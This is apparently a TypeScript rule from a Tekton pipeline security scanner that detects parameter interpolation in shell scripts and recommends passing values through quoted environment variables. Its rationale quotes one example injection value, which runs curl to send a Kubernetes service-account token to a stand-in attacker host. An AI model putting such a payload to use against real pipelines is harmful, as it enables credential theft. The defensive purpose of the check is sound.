import type { PipelineCheck } from '../types';
import { capEvidence, fail, notApplicable, pass, plural, unknown } from '../util';
import { codeSites, findInjections, injectionEvidence } from './substitutions';

export const INJ_001: PipelineCheck = {
  id: 'INJ-001',
  title: 'No parameter interpolation in scripts',
  category: 'injection',
  severity: 'high',
  scope: 'pipeline',
  rationale:
    'Tekton pastes `$(params.…)` and `$(tasks.….results.…)` into a script as text before the shell parses it, so a value such as ' +
    '`main; curl evil.example -d @/var/run/secrets/kubernetes.io/serviceaccount/token` becomes code that runs with the step\'s credentials. ' +
    'Whoever can set a parameter (a webhook payload, a PipelineRun author, an earlier task\'s output) can then run commands in the pipeline.',
  remediation: [
    'Pass the value through an environment variable and quote it; the shell then treats it as data:',
    '```yaml',
    'steps:',
    '- name: build',
    '  image: alpine@sha256:…',
    '  env:',
    '  - name: REVISION',
    '    value: $(params.revision)',
    '  script: |',
    '    #!/bin/sh',
    '    set -eu',
    '    git checkout "$REVISION"',
    '```',
    'The same applies to `command: [sh, -c, …]`: move the substitution into `env` and reference `"$VAR"`.',
  ].join('\n'),
  source: 'tekton-isolation-workspaces-rbac (adversary 4, step 5)',
  needs: ['Task'],
  evaluate({ pipeline, cluster }) {
    if (!pipeline.spec) return unknown('The pipeline spec is not in sight: its scripts cannot be read.');
    const { sites, unresolved, containers } = codeSites(pipeline, cluster);
    const found = findInjections(sites);
    const note = unresolved.length ? ` Not evaluated: ${unresolved.slice(0, 5).join('; ')}${unresolved.length > 5 ? '…' : ''}.` : '';
    if (found.length > 0) {
      const evidence = injectionEvidence(found);
      const steps = new Set(found.map((f) => f.site.label));
      const exprs = [...new Set(found.map((f) => `$(${f.occ.sub.expr})`))];
      return fail(
        `${plural(evidence.length, 'substitution')} of user-influenced values ${evidence.length === 1 ? 'stands' : 'stand'} inside shell code in ${plural(steps.size, 'step')} ` +
          `(${exprs.slice(0, 4).join(', ')}${exprs.length > 4 ? '…' : ''}): pass them through env and quote them.${note}`,
        capEvidence(evidence),
      );
    }
    if (unresolved.length > 0) return unknown(`No interpolation in the scripts in sight.${note}`);
    if (containers === 0) return notApplicable('The pipeline has no steps.');
    return pass(sites.length === 0 ? 'The steps run no script or shell code.' : `No script or shell command (${sites.length} looked at) interpolates a parameter or result.`);
  },
};
